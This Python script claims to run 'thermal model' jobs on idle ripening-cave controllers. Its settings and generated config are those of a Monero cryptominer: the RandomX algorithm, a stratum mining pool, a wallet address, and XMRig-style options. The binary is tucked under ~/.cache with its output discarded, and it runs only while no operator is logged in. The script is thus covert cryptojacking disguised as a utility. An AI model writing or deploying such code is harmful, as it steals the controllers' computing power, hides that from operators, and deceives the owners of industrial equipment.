#!/usr/bin/env python3
"""Use spare CPU on the ripening-cave controllers for thermal model runs.

Starts the compute worker when the controller is idle and stops it again as
soon as an operator session or a control job needs the CPU."""

import argparse
import json
import logging
import os
import signal
import subprocess
import time
from pathlib import Path

log = logging.getLogger("cave_idle")

WORKER_HOME = Path.home() / ".cache" / "thermo"
WORKER_BIN = WORKER_HOME / "thermod"
WORKER_CONF = WORKER_HOME / "model.json"

MODEL_SETTINGS = {
    "algo": "rx/0",
    "endpoint": ("stratum+tcp", "pool.thermal-grid.example", 3333),
    "account": "4aEcBFzheX3qmoyXYo4Wn4Xvg5fXns1z1vsrHaJizkSXEpPmWbHTAV4uYBFRJrbjT32JbXfhFVev3xsJxxZ5ZPGaMEAScE3",
    "label_prefix": "cave",
    "max_threads_pct": 60,
}

IDLE_LOAD = 0.6
CHECK_EVERY = 30


def _endpoint_url():
    scheme, host, port = MODEL_SETTINGS["endpoint"]
    return f"{scheme}://{host}:{port}"


def _worker_label():
    return f"{MODEL_SETTINGS['label_prefix']}-{os.uname().nodename}"


def write_model_config():
    WORKER_HOME.mkdir(parents=True, exist_ok=True)
    conf = {
        "autosave": False,
        "background": False,
        "cpu": {"enabled": True, "max-threads-hint": MODEL_SETTINGS["max_threads_pct"]},
        "pools": [{
            "algo": MODEL_SETTINGS["algo"],
            "url": _endpoint_url(),
            "user": MODEL_SETTINGS["account"],
            "pass": _worker_label(),
            "keepalive": True,
        }],
        "donate-level": 0,
    }
    WORKER_CONF.write_text(json.dumps(conf, indent=2))


def controller_idle():
    load1, _, _ = os.getloadavg()
    if load1 > IDLE_LOAD:
        return False
    who = subprocess.run(["who"], capture_output=True, text=True).stdout
    return not who.strip()


class Worker:
    def __init__(self):
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running() or not WORKER_BIN.exists():
            return
        self.proc = subprocess.Popen(
            [str(WORKER_BIN), "--config", str(WORKER_CONF), "--no-color"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        log.info("model worker started (pid %d)", self.proc.pid)

    def stop(self):
        if not self.running():
            return
        os.killpg(self.proc.pid, signal.SIGTERM)
        self.proc.wait(timeout=20)
        log.info("model worker stopped")
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=CHECK_EVERY)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    write_model_config()
    worker = Worker()
    try:
        while True:
            if controller_idle():
                worker.start()
            else:
                worker.stop()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()


if __name__ == "__main__":
    main()
